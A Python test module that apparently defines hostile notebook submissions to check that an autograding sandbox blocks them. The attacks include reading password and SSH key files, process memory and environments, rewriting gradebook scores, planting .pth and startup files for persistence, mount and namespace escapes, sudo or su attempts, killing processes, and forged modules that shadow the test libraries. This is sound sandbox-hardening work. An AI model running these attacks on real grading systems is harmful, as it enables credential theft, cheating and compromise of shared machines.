"""Getting out: reading, writing and reaching what a student's code has no business with."""

import os
import stat
from pathlib import Path

from .assignment import PLAIN
from .kinds import (
    ANY_STATUS,
    MADE,
    NOTEBOOK,
    TOLD,
    Allowed,
    Kind,
    Scene,
    Special,
    attack,
    link_to,
    points,
    work,
)


def reads(name: str, tries: str, code: str) -> Kind:
    """Return a kind that must show it was tried to its end, and that found nothing to tell."""
    return Kind(name, tries, attack(code), shows=MADE, never=[TOLD])


READING = [
    reads(
        "reads-the-solutions",
        "Reads the source notebook by its full path, beside the package, and above the working folder.",
        """
        import glob, pathlib
        import cjpolicy

        package = pathlib.Path(cjpolicy.__file__)
        guesses = [PLACES["source"], *glob.glob(PLACES["root"] + "/*/*/*.ipynb")]
        guesses += [str(each) for above in package.parents for each in above.glob("solutions/*")]
        guesses += glob.glob("../*/*.ipynb") + glob.glob("**/*.ipynb", recursive=True)

        @attempt
        def read_them():
            for each in guesses:
                if os.path.exists(each):
                    tell(each)
                    print(open(each).read()[:100_000])
        """,
    ),
    reads(
        "reads-the-gradebook",
        "Opens the gradebook, where the hidden tests and everybody's marks are, and gives itself full marks.",
        """
        import sqlite3

        @attempt
        def read_it():
            data = open(PLACES["gradebook"], "rb").read()
            tell(len(data))
            print(data.decode("latin-1"))

        @attempt
        def write_it():
            gradebook = sqlite3.connect("file:" + PLACES["gradebook"] + "?mode=rw", uri=True)
            gradebook.execute("update grade set auto_score = 2.0, manual_score = 99")
            gradebook.commit()
            tell("changed")
        """,
    ),
    reads(
        "reads-other-submissions",
        "Reads what others have handed in, and what has been marked already.",
        """
        import glob

        @attempt
        def read_them():
            for folder in ("submitted", "autograded", "feedback", "reports"):
                for each in glob.glob(f"{PLACES['classroom']}/{folder}/*/*/*"):
                    tell(each)
                    if os.path.isfile(each):
                        print(open(each, errors="replace").read()[:50_000])
        """,
    ),
    reads(
        "reads-the-machine",
        "Reads the password file, the keys of whoever marks, and the logs.",
        """
        import glob

        for each in ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", PLACES["secret"], PLACES["home"]]:

            @attempt
            def read_it():
                tell((each, len(os.listdir(each) if os.path.isdir(each) else open(each, "rb").read())))

        for each in ["/root/*", "/root/.ssh/*", "/home/*/*", "/var/log/*", "/etc/jupyter/*", "/srv/*"]:
            found = glob.glob(each)
            if found:
                tell(found)
        """,
    ),
    reads(
        "walks-the-file-system",
        "Goes through every folder there is, looking into small files for anything secret.",
        """
        import re, time

        end = time.monotonic() + 3
        secret = re.compile(rb"cjsecret-[a-z]+-[0-9a-f]{8,}")
        own = {b"cjsecret-[a-z]+-[0-9a-f]{8,}"}

        @attempt
        def walk():
            likely = ("/course", "/work", "/tmp", "/home", "/root", "/srv", "/mnt", "/var", "/etc", "/")
            for parent, folders, files in (each for start in likely for each in os.walk(start)):
                folders[:] = [name for name in folders if name not in ("proc", "sys", "site-packages")]
                for name in files:
                    path = os.path.join(parent, name)
                    if time.monotonic() > end:
                        return
                    try:
                        if os.path.isfile(path) and os.path.getsize(path) < 3_000_000:
                            found = set(secret.findall(open(path, "rb").read())) - own
                            if found:
                                tell((path, found))
                    except OSError:
                        pass
        """,
    ),
    reads(
        "reads-the-environment",
        "Prints the environment of its own process and of every other it can see.",
        """
        import glob

        print(dict(os.environ))
        for each in glob.glob("/proc/[0-9]*/environ"):

            @attempt
            def read_it():
                print(each, open(each, "rb").read().replace(b"\\0", b" "))
        """,
    ),
    reads(
        "reads-command-lines",
        "Looks for other processes, and for paths in the words they were started with.",
        """
        import glob

        for each in glob.glob("/proc/[0-9]*/cmdline"):

            @attempt
            def read_it():
                words = open(each, "rb").read().decode(errors="replace")
                print(each, words.replace("\\0", " "))
                for place in ("root", "decoy_word", "home"):
                    if PLACES[place] in words:
                        tell((each, PLACES[place]))
        """,
    ),
    reads(
        "uses-open-descriptors",
        "Goes through open descriptors, up from any folder among them, and through the roots of processes.",
        """
        for number in range(3, 256):
            try:
                kind = os.fstat(number).st_mode
            except OSError:
                continue
            print(number, oct(kind))

            @attempt
            def climb():
                up = os.open("../" * 12, os.O_RDONLY, dir_fd=number)
                inside = PLACES["root"].lstrip("/")
                tell(os.listdir(os.open(inside, os.O_RDONLY, dir_fd=up)))

        for process in os.listdir("/proc"):
            if process.isdigit():
                for way in ("root", "cwd"):

                    @attempt
                    def climb():
                        tell(os.listdir(f"/proc/{process}/{way}{PLACES['root']}"))
        """,
    ),
    reads(
        "reads-other-processes-memory",
        "Looks for secrets in the memory of every process it can see.",
        """
        import ctypes, re

        secret = re.compile(rb"cjsecret-[a-z]+-[0-9a-f]{8,}")
        libc = ctypes.CDLL(None, use_errno=True)
        for process in os.listdir("/proc"):
            if not process.isdigit() or int(process) == os.getpid():
                continue
            if libc.ptrace(16, int(process), 0, 0) == 0:
                tell(("ptrace", process))

            @attempt
            def look():
                maps = open(f"/proc/{process}/maps").read().splitlines()
                memory = open(f"/proc/{process}/mem", "rb", 0)
                for line in maps:
                    if "rw" not in line:
                        continue
                    start, end = (int(each, 16) for each in line.split()[0].split("-"))
                    memory.seek(start)
                    found = secret.findall(memory.read(min(end - start, 50_000_000)))
                    if found:
                        tell((process, found))
        """,
    ),
    reads(
        "reads-the-keyring",
        "Asks the kernel for the keys of the session that marks.",
        """
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        content = ctypes.create_string_buffer(4096)
        for ring in (-1, -2, -3, -4, -5):
            key = libc.syscall(250, 10, ring, b"user", b"cjpolicy-hostile", 0)
            if key > 0 and libc.syscall(250, 11, key, content, 4096, 0) > 0:
                tell(content.value)
        """,
    ),
    reads(
        "remembers-the-test-cells",
        "Looks for the test cells in its own history, in memory and in the stack, when it is called too.",
        """
        import gc, inspect

        def search():
            mark = "cjsecret" + "-key"
            for each in gc.get_objects():
                if isinstance(each, dict):
                    for key, value in list(each.items()):
                        if isinstance(value, str) and mark in value:
                            tell(value[:2000])
            for frame in inspect.stack():
                for name, value in frame.frame.f_locals.items():
                    if name.startswith("key_") or "expect" in name:
                        tell((name, repr(value)[:500]))

        search()
        print([each for each in In if "expect" in each])
        """,
    ),
]

NETWORK = [
    reads(
        "calls-this-machine",
        "Connects to a server on this machine's loopback, and to sockets that have only a name.",
        """
        import socket

        @attempt
        def loopback():
            with socket.create_connection(("127.0.0.1", PLACES["port"]), timeout=2) as talk:
                tell(talk.recv(1000))

        @attempt
        def loopback_six():
            with socket.create_connection(("::1", PLACES["port"]), timeout=2) as talk:
                tell(talk.recv(1000))

        for address in ("\\0" + PLACES["abstract"], PLACES["socket"]):

            @attempt
            def unix():
                with socket.socket(socket.AF_UNIX) as talk:
                    talk.settimeout(2)
                    talk.connect(address)
                    tell(talk.recv(1000))
        """,
    ),
    reads(
        "calls-the-world",
        "Asks a name server, and looks for a way out to any address.",
        """
        import socket

        @attempt
        def names():
            tell(socket.getaddrinfo("example.org", 443))

        @attempt
        def any_way_out():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
                talk.connect(("192.0.2.1", 53))  # sends nothing; fails where there is no way
                tell(talk.getsockname())

        @attempt
        def fetch():
            import urllib.request

            tell(urllib.request.urlopen("http://192.0.2.1/", timeout=2).read(100))
        """,
    ),
    reads(
        "uses-odd-sockets",
        "Tries the kernel's other kinds of socket: netlink, packets, virtual machines, cryptography.",
        """
        import socket

        @attempt
        def machine():
            with socket.socket(40, socket.SOCK_STREAM) as talk:  # AF_VSOCK, to the host
                talk.settimeout(2)
                talk.connect((2, 2024))
                tell("the host answers")

        @attempt
        def packets():
            tell(socket.socket(17, socket.SOCK_RAW))

        @attempt
        def interfaces():
            others = [each for _, each in socket.if_nameindex() if each != "lo"]
            if others:
                tell(others)
        """,
    ),
]

WRITING = [
    reads(
        "writes-outside",
        "Leaves a file in the course, at home, among others' work, and changes one that is there.",
        """
        for place in ("root", "outside", "home", "classroom", "solutions", "reports", "tmp"):

            @attempt
            def leave():
                os.makedirs(PLACES[place], exist_ok=True)
                open(os.path.join(PLACES[place], "HOSTILE-CANARY"), "w").write("I was here")

        @attempt
        def change():
            open(PLACES["canary"], "a").write("changed")
            open(PLACES["source"], "a").write(" ")
        """,
    ),
    reads(
        "writes-into-the-packages",
        "Leaves a file where the next student's Python, or the teacher's, would run it.",
        """
        import pathlib, sysconfig
        import cjpolicy

        places = [sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), sys.prefix, sys.base_prefix]
        places += [str(pathlib.Path(cjpolicy.__file__).parent), PLACES["site"], PLACES["package"]]
        places += ["/usr/lib/python3/dist-packages", "/usr/local/bin", "/etc", "/dev/shm/..", "/"]
        for place in places:

            @attempt
            def leave():
                path = os.path.join(place, "HOSTILE-CANARY.pth")
                open(path, "w").write("# I was here")
                tell(path)

            @attempt
            def change():
                os.chmod(place, 0o777)
                tell(place)
        """,
    ),
    reads(
        "mounts-and-namespaces",
        "Makes namespaces and mounts of its own to get at what is read-only or hidden.",
        """
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        for flags in (0x10000000, 0x10020000, 0x00020000, 0x40000000, 0x20000000):
            print("unshare", hex(flags), libc.unshare(flags))
        for process in ("1", "self"):
            for kind in ("mnt", "net", "user", "pid"):

                @attempt
                def enter():
                    print("setns", libc.setns(os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY), 0))

        remount_writable = 32 | 4096
        for place in ("/", "/usr", PLACES["site"], sys.prefix):
            if libc.mount(None, place.encode(), None, remount_writable, None) == 0:
                tell(("mounted", place))
        if libc.mount(b"proc", b"/tmp", b"proc", 0, None) == 0 or libc.chroot(b"/tmp/..") == 0:
            tell("mounted")
        for number in (155, 165, 428, 429, 430, 442):
            if libc.syscall(number, 0, 0, 0, 0, 0) == 0:
                tell(("call", number))
        """,
    ),
    reads(
        "runs-programs-of-the-machine",
        "Runs programs that could give it another user's rights, or any program at all.",
        """
        import subprocess

        for words in (
            ["su", "-c", "cat " + PLACES["secret"]],
            ["sudo", "-n", "cat", PLACES["secret"]],
            ["mount", "--bind", "/", "/tmp"],
            ["unshare", "-Ur", "cat", PLACES["secret"]],
            ["bwrap", "--bind", "/", "/", "cat", PLACES["secret"]],
            ["cat", PLACES["secret"]],
            ["at", "now"],
            ["crontab", "-l"],
        ):

            @attempt
            def run():
                done = subprocess.run(words, capture_output=True, timeout=3, input=b"")
                print(words[0], done.returncode, done.stdout[:300], done.stderr[:300])

        os.system("cat " + PLACES["secret"])
        """,
    ),
    reads(
        "kills-others",
        "Kills a process outside by its number, then stops its parent and the first of all.",
        """
        import signal

        @attempt
        def kill_decoy():
            os.kill(PLACES["decoy"], signal.SIGKILL)
            tell("killed")

        @attempt
        def stop_parent():
            os.kill(os.getppid(), signal.SIGSTOP)
            os.kill(1, signal.SIGSTOP)
            os.kill(1, signal.SIGTERM)
        """,
    ),
    Kind(
        "leaves-processes-behind",
        "Starts processes of its own, cut off from their parent, that are to live on.",
        attack(
            """
            import subprocess, time

            @attempt
            def daemon():
                if os.fork() == 0:
                    os.setsid()
                    if os.fork() == 0:
                        time.sleep(900)
                    os._exit(0)

            @attempt
            def program():
                subprocess.Popen(["sleep", "900"], start_new_session=True)

            @attempt
            def pool():
                import multiprocessing

                multiprocessing.get_context("spawn").Process(target=time.sleep, args=(900,)).start()
            """
        ),
        shows=MADE,
    ),
]


def pipe(path: Path, scene: Scene) -> None:
    os.mkfifo(path)


def device(path: Path, scene: Scene) -> None:
    """Make a device that gives and keeps nothing; a machine that allows none gets a file in its place."""
    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except PermissionError:
        with open(path, "wb"):
            pass


def hard_link(path: Path, scene: Scene) -> None:
    os.link(scene.places["canary"], path)


READ_SUPPORT = """
    for name in sorted(os.listdir(".")):
        print(name, os.path.islink(name), oct(os.stat(name).st_mode) if os.path.exists(name) else "gone")

        @attempt
        def read_it():
            if os.path.isdir(name):
                print(os.listdir(name), [open(os.path.join(name, each)).read() for each in os.listdir(name)])
            elif os.path.isfile(name):
                print(open(name, "rb").read(200_000))

    @attempt
    def write_it():
        open("canary.txt", "a").write("changed through a link")
"""


def support(name: str, tries: str, files: dict[str, bytes | Special]) -> Kind:
    return Kind(name, tries, attack(READ_SUPPORT, files=files), statuses=ANY_STATUS, shows=MADE, never=[TOLD])


FORGED_ITEM = b"""
class Generous:
    def __getattr__(self, name):
        return Generous()

    def __call__(self, *anything, **named):
        return Generous()

    def points(self, worth):
        return float(worth)


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return Generous()
"""

SUPPORT = [
    support(
        "links-to-secrets",
        "Hands in symbolic links to the gradebook, the solutions and a secret, and reads them when it runs.",
        {"grades.db": link_to("gradebook"), "keys": link_to("solutions"), "notes.txt": link_to("secret")},
    ),
    support(
        "hard-link-to-a-file-outside",
        "Hands in a second name of a file outside, and writes to it when it runs.",
        {"canary.txt": hard_link},
    ),
    support(
        "pipe-and-device-among-the-files",
        "Hands in a pipe that nobody writes to, and a device.",
        {"data.csv": pipe, "null.csv": device, "loop": lambda path, scene: path.symlink_to("loop")},
    ),
    Kind(
        "notebook-is-a-link",
        "Hands in, as its notebook, a link to the solutions.",
        lambda scene: {NOTEBOOK: link_to("source")},
        points=dict.fromkeys(points()),
        statuses=frozenset(["flagged"]),
        says=r"link|no notebook",
    ),
    Kind(
        "modules-that-shadow-the-tests",
        "Hands in modules named like the course's and Python's own, in the hope that the tests import them.",
        work(
            PLAIN,
            change="change = 1",
            files={
                f"{name}.py": FORGED_ITEM
                for name in ("cjpolicy", "json", "nbgrader", "random", "struct", "ast", "base64", "builtins")
            }
            | {"IPython/__init__.py": FORGED_ITEM, "cjpolicy/__init__.py": FORGED_ITEM},
        ),
        points=points(change=0.0),
    ),
    Kind(
        "modules-that-shadow-the-libraries",
        "Hands in a pandas, a numpy and an Altair of its own; whom these hurt is the student alone.",
        work(
            PLAIN,
            change="change = 1",
            files={
                "pandas.py": FORGED_ITEM,
                "altair.py": FORGED_ITEM,
                "numpy/__init__.py": FORGED_ITEM,
            },
        ),
        points=points(
            change=0.0,
            steps=Allowed((2.0, 0.0)),
            function=Allowed((3.0, 1.5, 0.0)),
            chart=Allowed((2.0, 0.0)),
        ),
        statuses=ANY_STATUS,
    ),
    Kind(
        "startup-files",
        "Hands in files that Python, IPython, Jupyter, nbgrader and pytest run when they start.",
        work(
            change="change = 1",
            files={
                name: b"open('HOSTILE-CANARY', 'w').write('I was here')\nraise SystemExit('started')\n"
                for name in (
                    "sitecustomize.py",
                    "usercustomize.py",
                    "conftest.py",
                    "nbgrader_config.py",
                    "jupyter_config.py",
                    "ipython_config.py",
                    "ipython_kernel_config.py",
                    ".ipython/profile_default/startup/00-first.py",
                    "profile_default/startup/00-first.py",
                    ".jupyter/jupyter_config.py",
                )
            }
            | {"site.pth": b"import os; open('HOSTILE-CANARY', 'w')\n", "pyvenv.cfg": b"home = /nowhere\n"},
        ),
        points=points(change=0.0),
        statuses=ANY_STATUS,
    ),
]

KINDS = [*READING, *NETWORK, *WRITING, *SUPPORT]
